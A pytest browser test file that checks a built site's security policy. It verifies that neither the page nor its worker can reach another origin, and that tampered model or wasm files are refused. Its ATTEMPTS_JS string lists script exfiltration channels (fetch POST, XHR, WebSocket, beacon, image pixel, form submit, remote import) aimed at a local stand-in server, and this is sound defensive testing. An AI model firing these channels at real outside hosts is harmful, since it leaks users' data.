"""Nothing leaves the page: requests to another origin are blocked, on a host that sends no headers."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from builder.pipeline import Built
from builder.site.server import SiteServer, serve
from tests.browser import pages


class Stranger(ThreadingHTTPServer):
    """Another origin, which would take whatever is sent to it."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_OPTIONS = do_GET  # noqa: N815 - the names http.server asks for

            def log_message(self, format: str, *args: object) -> None:
                """Quiet."""

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    server = Stranger()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


# Each way out that a script has; resolves to what got through.
ATTEMPTS_JS = """
async (url) => {
  const through = [];
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  await fetch(url + '/fetch', {method: 'POST', body: 'pixels', mode: 'no-cors'})
    .then(() => through.push('fetch'), () => {});
  await new Promise((resolve) => {
    try {
      const request = new XMLHttpRequest();
      request.onload = () => { through.push('xhr'); resolve(); };
      request.onerror = resolve;
      request.open('GET', url + '/xhr');
      request.send();
    } catch { resolve(); }
  });
  try {
    const socket = new WebSocket(url.replace('http', 'ws') + '/socket');
    socket.onopen = () => through.push('socket');
  } catch {}
  try { new EventSource(url + '/events'); } catch {}
  await import(url + '/module.js').then(() => through.push('import'), () => {});
  try { if (globalThis.importScripts) importScripts(url + '/script.js'); } catch {}
  try { (0, eval)('1'); through.push('eval'); } catch {}
  if (globalThis.document) {
    navigator.sendBeacon(url + '/beacon', 'pixels');
    new Image().src = url + '/image';
    const form = document.createElement('form');
    form.action = url + '/form';
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  }
  await wait(300);
  return through;
}
"""


def test_neither_the_page_nor_its_worker_reaches_another_origin(
    site: Callable[..., Built],
    serving: Callable[[Path], SiteServer],
    chromium: Any,
    stranger: Stranger,
) -> None:
    url = serving(site("embedded").out).url
    with chromium() as visit:
        response = visit.page.goto(url)
        assert "content-security-policy" not in response.headers, "the host must send no policy of its own"
        pages.open_ready(visit.page, url)
        (worker,) = visit.page.workers
        assert worker.url.startswith("blob:")
        assert visit.page.evaluate(ATTEMPTS_JS, stranger.url) == []
        assert stranger.seen == []
        # A debugger's own evaluation may use eval where the page may not; the network it may not.
        through = set(worker.evaluate(ATTEMPTS_JS, stranger.url)) - {"eval"}
        assert through == set()
        assert stranger.seen == []
        assert worker.evaluate("fetch(new URL('/site.json', self.origin)).then((r) => r.status)") == 200


def test_without_the_policy_the_same_attempts_get_through(
    chromium: Any, stranger: Stranger, tmp_path: Path
) -> None:
    """The control: what the test above measures can be seen when nothing blocks it."""
    (tmp_path / "index.html").write_text("<!doctype html><title>open</title>")
    with chromium() as visit, serve(tmp_path, port=0, headers=False) as server:
        visit.page.goto(server.url)
        assert {"fetch", "xhr"} <= set(visit.page.evaluate(ATTEMPTS_JS, stranger.url))
        visit.page.evaluate("window.w = new Worker(URL.createObjectURL(new Blob([''])))")
        visit.page.wait_for_timeout(200)
        (worker,) = visit.page.workers
        assert {"fetch", "xhr"} <= set(worker.evaluate(ATTEMPTS_JS, stranger.url))
        assert any(line.endswith("/beacon") for line in stranger.seen)


@pytest.mark.parametrize("damaged", ["worker", "shard", "graph", "wasm"])
def test_a_file_that_was_changed_on_the_way_is_not_used(
    damaged: str, site: Callable[..., Built], serving: Callable[[Path], SiteServer], chromium: Any
) -> None:
    built = site("embedded")
    asset = {
        "worker": built.site["workers"]["wasm"],
        "shard": built.site["model"]["shards"][-1],
        "graph": built.site["model"]["graph"],
        "wasm": built.site["wasm"]["simd"],
    }[damaged]
    original = (built.out / asset["url"]).read_bytes()
    changed = original[:-8] + bytes(b ^ 1 for b in original[-8:])
    with chromium() as visit:
        visit.page.route(f"**/{asset['url']}", lambda route: route.fulfill(body=changed))
        visit.page.goto(serving(built.out).url)
        alert = visit.page.get_by_role("alert")
        alert.filter(has_text="is not the file this site was built with").wait_for(timeout=pages.READY_MS)
        visit.page.unroute(f"**/{asset['url']}")
        visit.page.get_by_role("button", name="Try again").click()
        visit.page.get_by_role("status").filter(has_text="The model is ready").wait_for(
            timeout=pages.READY_MS
        )
        if damaged != "worker":
            assert len(visit.page.workers) == 1, "the worker that could not start is ended"
